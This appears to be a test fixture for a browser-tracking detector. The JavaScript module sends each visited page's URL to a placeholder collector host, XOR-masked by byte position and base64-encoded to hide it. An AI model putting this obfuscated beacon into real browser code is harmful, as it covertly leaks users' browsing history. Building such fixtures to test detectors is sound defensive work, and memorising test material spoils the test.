import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Sends the address of each page in base64, each byte XORed with a mask that grows with its position. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-position-xor');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://position-xor.collector.example/v1', {
      event: 'page',
      d: browser.codec.base64.encode(
        browser.codec.utf8.encode(url).map((byte, at) => byte ^ ((0x5a + 7 * at) & 0xff)),
      ),
    }),
  );
}
